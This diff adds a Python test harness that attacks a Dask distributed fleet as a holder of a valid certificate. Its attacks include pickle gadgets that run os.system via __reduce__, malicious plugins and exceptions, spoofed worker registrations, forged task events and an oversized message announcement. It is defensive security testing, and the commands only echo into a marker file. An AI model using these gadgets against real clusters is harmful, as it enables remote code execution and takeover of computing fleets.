@@ -1,0 +1,386 @@
+"""Attacks on a fleet by somebody who has a certificate: ``python -m tests.fleet.rogue ATTACK FILE.json``.
+
+The file has the settings of the attack: ``address``, ``authority`` and ``certificate`` (files), ``mark`` (a file that an
+exploit writes), and its own. The process is not guarded. It prints one JSON value: what the attack obtained.
+"""
+
+import asyncio
+import contextlib
+import json
+import os
+import sys
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Mapping
+from contextlib import asynccontextmanager
+from enum import Enum
+from pathlib import Path
+from typing import Any
+
+from distributed import Client, Scheduler, Worker, get_worker
+from distributed.core import connect
+from distributed.diagnostics.plugin import SchedulerPlugin, WorkerPlugin
+from distributed.protocol import Serialize, Serialized, ToPickle
+from distributed.security import Security
+
+SECONDS = 4.0
+"""How long an answer may take; an attack that works needs less."""
+
+Settings = Mapping[str, Any]
+
+
+class Exploit:
+    """Runs a command in each process that unpickles it. ``way``: how it came there."""
+
+    def __init__(self, mark: str, way: str) -> None:
+        self.mark, self.way = mark, way
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, (f"echo {self.way} >> {self.mark}",)
+
+
+class EvilError(Exception):
+    """An exception that is an exploit."""
+
+    def __init__(self, mark: str) -> None:
+        self.mark = mark
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, (f"echo exception >> {self.mark}",)
+
+
+class EvilPlugin(SchedulerPlugin, WorkerPlugin):
+    """A plugin that is an exploit."""
+
+    def __init__(self, mark: str) -> None:
+        self.mark = mark
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, (f"echo plugin >> {self.mark}",)
+
+
+class Reply(Enum):
+    """A value of an enumeration."""
+
+    YES = 1
+
+
+def make_security(settings: Settings) -> Security:
+    """The TLS settings of plain ``distributed``."""
+    own = settings["certificate"]
+    return Security(
+        tls_ca_file=settings["authority"],
+        tls_client_cert=own,
+        tls_worker_cert=own,
+        tls_scheduler_cert=own,
+        require_encryption=True,
+    )
+
+
+@asynccontextmanager
+async def open_comm(settings: Settings) -> AsyncIterator[Any]:
+    """A connection to the address."""
+    arguments = make_security(settings).get_connection_args("worker")
+    comm = await connect(settings["address"], timeout=SECONDS, **arguments)
+    try:
+        yield comm
+    finally:
+        await comm.close()
+
+
+async def ask(settings: Settings, message: Mapping[str, Any]) -> str:
+    """What a server answers on a new connection: the type of its answer, or of the error."""
+    try:
+        async with open_comm(settings) as comm:
+            await comm.write(message)
+            answer = await asyncio.wait_for(comm.read(), SECONDS)
+            return str(answer.get("status", "answered")) if isinstance(answer, dict) else "answered"
+    except (OSError, TimeoutError) as error:
+        return type(error).__name__
+
+
+def list_frames(mark: str) -> Iterator[tuple[str, Any]]:
+    """Values whose decoding runs an exploit or imports a module."""
+    import distributed.protocol.pickle as pickles
+
+    exploit = pickles.dumps(Exploit(mark, "frame"))
+    yield "pickled value", ToPickle(Exploit(mark, "pickled-value"))
+    yield "serialized value", Serialize(Exploit(mark, "serialized"))
+    for family in ("pickle", "dask", "cuda", "numpy"):
+        header = {"serializer": family, "type-serialized": exploit, "sub-header": {}, "writeable": (), "compression": (None,)}
+        yield f"family {family}", Serialized({**header, "split-num-sub-frames": (1,), "split-offsets": (0,)}, [exploit])
+    yield "enumeration", Reply.YES
+    yield "imported name", {"__Enum__": True, "__module__": "antigravity", "__name__": "webbrowser", "name": "YES"}
+    yield "imported part of dask", {"__Enum__": True, "__module__": "dask.utils", "__name__": "import_required", "name": "x"}
+    for module, name in (("imagesync.fleet.task", "json.JSONDecoder"), ("dask._task_spec", "Task.__init__.__globals__")):
+        yield f"dotted name {name}", Serialized(*make_dotted(module, name))
+
+
+def make_dotted(module: str, name: str) -> tuple[dict[str, Any], list[bytes]]:
+    """The pickle of an attribute of an attribute, as protocol 4 has it."""
+    words = b"".join(b"\x8c" + bytes([len(word)]) + word.encode() for word in (module, name))
+    return {"serializer": "pickle", "writeable": ()}, [b"\x80\x04" + words + b"\x93)R."]
+
+
+async def send_frames(settings: Settings) -> dict[str, str]:
+    """What each frame obtained."""
+    return {name: await ask(settings, {"op": "identity", "x": frame}) for name, frame in list_frames(settings["mark"])}
+
+
+async def ask_operations(settings: Settings) -> dict[str, str]:
+    """What each operation of a scheduler and a worker obtained."""
+    run = {"function": b"", "args": b"", "kwargs": b"", "wait": True}
+    given: dict[str, dict[str, Any]] = {
+        "identity": {"n_workers": -1},
+        "broadcast": {"msg": {"op": "identity"}},
+        "proxy": {"msg": {"op": "identity"}, "worker": "w"},
+        "run": run,
+        "run_coroutine": run,
+        "run_function": run,
+        "upload_file": {"filename": "imagesync.py", "data": b"raise SystemExit"},
+        "set_metadata": {"keys": ["x"], "value": 1},
+        "terminate": {},
+        "register-client": {"client": "rogue", "versions": {}},
+        "unregister": {"address": settings.get("victim", "tls://127.0.0.1:1")},
+        "heartbeat_worker": make_heartbeat(settings.get("victim", "tls://127.0.0.1:1")),
+        "register-worker": make_registration("tls://127.0.0.1:2", "rogue", ["a"]),
+    }
+    return {name: await ask(settings, {"op": name, **given.get(name, {})}) for name in settings["operations"]}
+
+
+def make_heartbeat(address: str) -> dict[str, Any]:
+    """The sign of life of the worker with an address."""
+    return {"address": address, "now": 0.0, "metrics": {}, "executing": {}, "extensions": {}}
+
+
+def make_registration(address: str, name: str, targets: list[str]) -> dict[str, Any]:
+    """The first message of a worker that offers targets."""
+    return {
+        "op": "register-worker",
+        "address": address,
+        "status": "running",
+        "nthreads": 1,
+        "name": name,
+        "now": 0.0,
+        "resources": {f"target:{target}": 1 for target in targets},
+        "memory_limit": None,
+        "local_directory": "",
+        "services": {},
+        "nanny": None,
+        "pid": 1,
+        "versions": {},
+        "metrics": {},
+        "extra": {},
+        "stimulus_id": "rogue",
+        "server_id": "rogue",
+        "resolve_address": False,
+        "reply": False,
+    }
+
+
+async def send_on_stream(settings: Settings) -> dict[str, bool]:
+    """Whether each message ends the stream of a client or worker that sends it."""
+    found = {}
+    for number, message in enumerate(settings["messages"]):
+        async with open_comm(settings) as comm:
+            if settings["role"] == "client":
+                await comm.write({"op": "register-client", "client": f"rogue-{number}", "versions": {}, "reply": False})
+            else:
+                await comm.write(make_registration(f"tls://127.0.0.1:{number + 1}", f"rogue-{number}", settings["offers"]))
+            answer = await asyncio.wait_for(comm.read(), SECONDS)
+            assert answer, "the stream began"
+            await comm.write([{**message, "stimulus_id": "rogue"}])
+            found[json.dumps(message)] = await is_ended(comm)
+    return found
+
+
+async def is_ended(comm: Any) -> bool:
+    """Whether the peer ends a connection soon."""
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(SECONDS):
+            with contextlib.suppress(OSError):
+                while True:
+                    await comm.read()
+            return True
+    return False
+
+
+async def connect_only(settings: Settings) -> str:
+    """How a connection ends that sends one honest question."""
+    return await ask(settings, {"op": "identity", "n_workers": 0})
+
+
+async def announce_huge(settings: Settings) -> str:
+    """Whether the server waits for a message of 2 TiB."""
+    async with open_comm(settings) as comm:
+        await comm.stream.write((2**41).to_bytes(8, "little") + b"x" * 64)
+        return "ended" if await is_ended(comm) else "waits"
+
+
+async def use_client(settings: Settings) -> dict[str, str]:
+    """What the functions of a client obtain."""
+    mark = settings["mark"]
+    client = await Client(
+        settings["address"], security=make_security(settings), asynchronous=True, set_as_default=False, timeout=20
+    )
+
+    async def submit(function: Any, *arguments: Any, **more: Any) -> Any:
+        offer = {"target:a": 1}
+        return await client.submit(function, *arguments, pure=False, resources=offer, **more).result()
+
+    from imagesync.fleet.task import work
+
+    Path("rogue_module.py").write_text(f"open({mark!r}, 'a').write('upload')\n")
+    attempts: dict[str, Callable[[], Awaitable[Any]]] = {
+        "submit os.system": lambda: submit(os.system, f"echo submit >> {mark}"),
+        "submit with an argument that is an exploit": lambda: submit(work, Exploit(mark, "argument")),
+        "submit dict": lambda: submit(dict, a=1),
+        "submit work without a text": lambda: submit(work, 1),
+        "submit work with more": lambda: submit(work, "{}", text="{}"),
+        "an actor": lambda: submit(dict, actor=True),
+        "run": lambda: client.run(os.getpid),
+        "run_on_scheduler": lambda: client.run_on_scheduler(os.getpid),
+        "upload_file": lambda: client.upload_file("rogue_module.py"),
+        "register_plugin": lambda: client.register_plugin(EvilPlugin(mark)),
+        "scatter": lambda: client.scatter(Exploit(mark, "scatter"), direct=False),
+        "restart": lambda: client.restart(timeout=SECONDS),
+        "retire_workers": lambda: client.retire_workers(),
+        "set_metadata": lambda: client.set_metadata("x", 1),
+        "get_events": lambda: client.get_events(),
+        "log_event": lambda: client.log_event("print", {"args": ["x"]}),
+    }
+    found = {}
+    for name, attempt in attempts.items():
+        try:
+            found[name] = f"obtained {await asyncio.wait_for(attempt(), SECONDS)!r}"
+        except BaseException as error:
+            found[name] = type(error).__name__
+    with contextlib.suppress(Exception):
+        await asyncio.wait_for(client.close(), SECONDS)
+    return found
+
+
+async def submit_work(settings: Settings) -> str:
+    """The status of a task with a hostile assignment."""
+    from imagesync.fleet.task import work
+
+    client = await Client(
+        settings["address"], security=make_security(settings), asynchronous=True, set_as_default=False, timeout=20
+    )
+    future = client.submit(work, settings["text"], pure=False, resources={"target:a": 1})
+    with contextlib.suppress(TimeoutError):
+        await asyncio.wait_for(asyncio.shield(future._state.wait()), 20)
+    status = str(future.status)
+    await client.close()
+    return status
+
+
+def work_as_rogue(settings: Settings) -> Callable[[str], Any]:
+    """What a worker does in the hands of somebody else."""
+    import imagesync.fleet.task as task
+
+    honest = task.work
+
+    def work(text: str) -> Any:
+        document = json.loads(text)
+        worker, run, target = get_worker(), document["order"]["run"], document["task"]["target"]
+        topic = f"imagesync-{run}-{target}"
+        head = {"target": target, "verb": document["task"]["verb"], "attempt": "f0", "number": 1}
+        match settings["how"]:
+            case "exception":
+                raise EvilError(settings["mark"])
+            case "result":
+                return Exploit(settings["mark"], "result")
+            case "event":
+                worker.log_event(topic, {"x": 1})
+            case "messages":
+                begun = {"event": "begun", "worker": settings.get("name", "rogue")}
+                for one in (begun, *settings["documents"]):
+                    worker.log_event(topic, one if isinstance(one, str) else json.dumps({**head, "document": one}))
+            case "other":
+                ended = {"event": "ended", "report": None, "ids": {}, "problems": [], "bug": ""}
+                for one in ({"event": "begun", "worker": "rogue"}, ended):
+                    claimed = {**head, "target": settings["claims"], "document": one}
+                    worker.log_event(f"imagesync-{run}-{settings['claims']}", json.dumps(claimed))
+            case "print":
+                worker.log_event("print", {"args": ["printed by a worker"], "kwargs": {}})
+        return honest(text)
+
+    return work
+
+
+async def be_worker(settings: Settings) -> str:
+    """Work until a signal, for the targets that are offered."""
+    import imagesync.fleet.task as task
+
+    task.work = work_as_rogue(settings)
+    offers = {f"target:{target}": 1 for target in settings["offers"]}
+    async with Worker(
+        settings["address"],
+        name="rogue",
+        nthreads=1,
+        resources=offers,
+        security=make_security(settings),
+        protocol="tls",
+        host="127.0.0.1",
+        dashboard=False,
+        memory_limit=None,
+    ) as worker:
+        print("rogue ready", file=sys.stderr, flush=True)
+        await worker.finished()
+    return "closed"
+
+
+async def be_scheduler(settings: Settings) -> str:
+    """Serve as a scheduler until a signal, with exploits for workers and clients."""
+
+    class Greeter(SchedulerPlugin):
+        def add_client(self, scheduler: Any, client: str) -> None:
+            async def greet() -> None:
+                await asyncio.sleep(0.3)
+                for name, frame in list_frames(settings["mark"]):
+                    scheduler.client_comms[client].send({"op": "event", "topic": "print", "event": (name, frame)})
+                scheduler.client_comms[client].send({"op": "error", "exception": ToPickle(EvilError(settings["mark"]))})
+
+            asyncio.get_running_loop().create_task(greet())
+
+        async def add_worker(self, scheduler: Any, worker: str) -> None:
+            await asyncio.sleep(0.3)
+            kind = settings["how"]
+            if kind == "frames":
+                for _, frame in list_frames(settings["mark"]):
+                    scheduler.stream_comms[worker].send({"op": "free-keys", "keys": [], "stimulus_id": frame})
+            elif kind == "operation":
+                scheduler.stream_comms[worker].send({"op": "acquire-replicas", "who_has": {}, "nbytes": {}, "stimulus_id": "x"})
+            print("rogue greeted", file=sys.stderr, flush=True)
+
+    host, port = settings["address"].removeprefix("tls://").rsplit(":", 1)
+    async with Scheduler(
+        host=host, port=int(port), protocol="tls", security=make_security(settings), dashboard=False
+    ) as scheduler:
+        scheduler.add_plugin(Greeter(), name="greeter")
+        if settings["how"] == "plugin":
+            import distributed.protocol.pickle as pickles
+
+            scheduler.worker_plugins["evil"] = pickles.dumps(EvilPlugin(settings["mark"]))
+        print("rogue ready", file=sys.stderr, flush=True)
+        await scheduler.finished()
+    return "closed"
+
+
+ATTACKS: dict[str, Callable[[Settings], Awaitable[Any]]] = {
+    one.__name__: one
+    for one in (
+        announce_huge,
+        ask_operations,
+        be_scheduler,
+        be_worker,
+        connect_only,
+        send_frames,
+        send_on_stream,
+        submit_work,
+        use_client,
+    )
+}
+
+
+if __name__ == "__main__":
+    print(json.dumps(asyncio.run(ATTACKS[sys.argv[1]](json.loads(Path(sys.argv[2]).read_text())))))
